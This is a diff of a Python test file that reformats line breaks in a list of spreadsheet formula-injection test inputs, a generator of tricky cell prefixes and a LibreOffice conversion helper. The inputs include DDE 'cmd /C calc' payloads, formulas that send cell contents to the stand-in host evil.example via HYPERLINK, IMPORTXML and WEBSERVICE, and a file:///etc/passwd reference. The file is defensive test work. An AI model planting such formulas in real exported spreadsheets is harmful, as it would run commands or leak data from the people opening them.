@@ -25,10 +25,12 @@ PAYLOADS = (
     "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")",
     "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example/\"&A1)",
     "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A-3+3+cmd|' /C calc'!D2", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1+1",
-    "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1+1", "﹦1+1",
+    "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
+    "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1+1", "﹦1+1",
     "'=1+1", "''=1+1", "' =1+1", "\"=1+1", "=\"1\"+1", ";=1+1", ",=1+1", "x\n=1+1", "x\r\n=1+1", "{=1+1}", "=",
     "==", "+", "@", "--", "-1", "+44 20 7946 0000", "1+1", "http://evil.example/", "mailto:a@evil.example",
-    "file:///etc/passwd", "internal:Results!A1", "external:c:\\x.xlsx", "#REF!", "TRUE", "1e5", "0012", "3/4", "_x003D_1+1",
+    "file:///etc/passwd", "internal:Results!A1", "external:c:\\x.xlsx", "#REF!", "TRUE",
+    "1e5", "0012", "3/4", "_x003D_1+1",
     "javascript:alert(1)", "<b>&amp;]]>", "\\\"", "\"", "\"\"", "'",
 )  # fmt: skip
 HARMLESS = ("O'Brien", "D'Angelo", "'s-Gravenhage", "'t Hooft", "-", "Jean-Luc", "Anne + Marie", "Smith=Jones",
@@ -38,8 +40,8 @@ HARMLESS = ("O'Brien", "D'Angelo", "'s-Gravenhage", "'t Hooft", "-", "Jean-Luc",
 def generated(number: int) -> Iterator[str]:
     """Beginnings that matter, in all orders, before texts of many scripts; always the same ones."""
     chance = random.Random(20261125)
-    beginnings = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "'",
-                  '"', ",", ";", "x", "É", "1", "_x0041_"]  # fmt: skip
+    beginnings = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", " ", "\u00a0", "\u3000", "\u200b",
+                  "\ufeff", "'", '"', ",", ";", "x", "É", "1", "_x0041_"]  # fmt: skip
     letters = "abz'\"-,;= \u00e9\u0159\u0142王小明محمدשלום\u0e01\U0001f600&<>%_0123456789"
     for _number in range(number):
         start = "".join(chance.choices(beginnings, k=chance.randrange(4)))
@@ -146,7 +148,8 @@ def convert(path: Path, *names: str, infilter: str = "") -> None:
     subprocess.run(
         [
             "soffice", f"-env:UserInstallation={(path / 'profile').as_uri()}", "--headless",
-            *([f"--infilter={infilter}"] if infilter else []), "--convert-to", "xlsx", "--outdir", path / "read", *names,
+            *([f"--infilter={infilter}"] if infilter else []), "--convert-to", "xlsx", "--outdir", path / "read",
+            *names,
         ],
         cwd=path, check=True, capture_output=True, timeout=120, env={**os.environ, "HOME": str(path)},
     )  # fmt: skip
